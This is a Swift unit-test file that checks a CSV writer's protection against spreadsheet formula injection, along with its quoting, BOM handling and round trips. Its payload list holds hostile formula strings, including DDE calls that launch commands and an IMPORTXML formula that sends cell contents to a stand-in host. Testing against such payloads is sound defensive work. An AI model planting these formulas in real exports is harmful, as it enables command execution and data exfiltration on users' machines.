import Foundation
import Testing

@testable import ScoutCore

/// OWASP CSV-injection payloads must come out inert; genuine numbers and ordinary text must not change.
struct SpreadsheetSafetyTests {
    static let payloads = [
        "=1+1", "=HYPERLINK(\"http://evil.example\",\"click\")", "+1+1", "-1+1", "@SUM(1,2)", "=cmd|' /C calc'!A0",
        "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1+2", "＠SUM(A1)", "=IMPORTXML(CONCAT(\"http://x.example/?\",A1),\"//a\")",
        "-2+3+cmd|' /C calc'!A0", "@name", "+", "-", "=",
    ]

    @Test(arguments: payloads)
    func payloadIsNeutralised(_ payload: String) {
        let safe = SpreadsheetSafety.neutralise(payload)
        #expect(safe == "'" + payload)
    }

    @Test(arguments: ["-12", "-12.5", "+3", "-0.25e3", "hello", "12,5K", "", "a=b", "O'Brien", "#vegan", "日本"])
    func harmlessCellsAreUnchanged(_ cell: String) {
        #expect(SpreadsheetSafety.neutralise(cell) == cell)
    }

    @Test func writerNeutralisesOnlyWhenAsked() {
        var safe = CSVWriter(spreadsheetSafe: true)
        safe.write(["=1+1", "-5", "@x", "a,b"])
        #expect(String(decoding: safe.bytes, as: UTF8.self) == "'=1+1,-5,'@x,\"a,b\"\n")
        var exact = CSVWriter(spreadsheetSafe: false)
        exact.write(["=1+1", "line\nbreak", "q\"uote"])
        #expect(String(decoding: exact.bytes, as: UTF8.self) == "=1+1,\"line\nbreak\",\"q\"\"uote\"\n")
    }

    @Test func excelBOMIsOptional() {
        #expect(CSVWriter(spreadsheetSafe: true, utf8BOM: true).bytes == [0xEF, 0xBB, 0xBF])
        #expect(CSVWriter(spreadsheetSafe: true).bytes.isEmpty)
    }

    @Test func writtenFilesRoundTripThroughTheReader() throws {
        let rows = [["a", "b"], ["x,y", "multi\r\nline"], ["\"quoted\"", " lead"], ["", "日本語 🍣"]]
        let path = Fixtures.temporaryDirectory() + "/t.csv"
        try IntermediateTable.write(path, header: rows[0], rows: Array(rows.dropFirst()))
        #expect(try Fixtures.records(path).records == rows)
    }
}
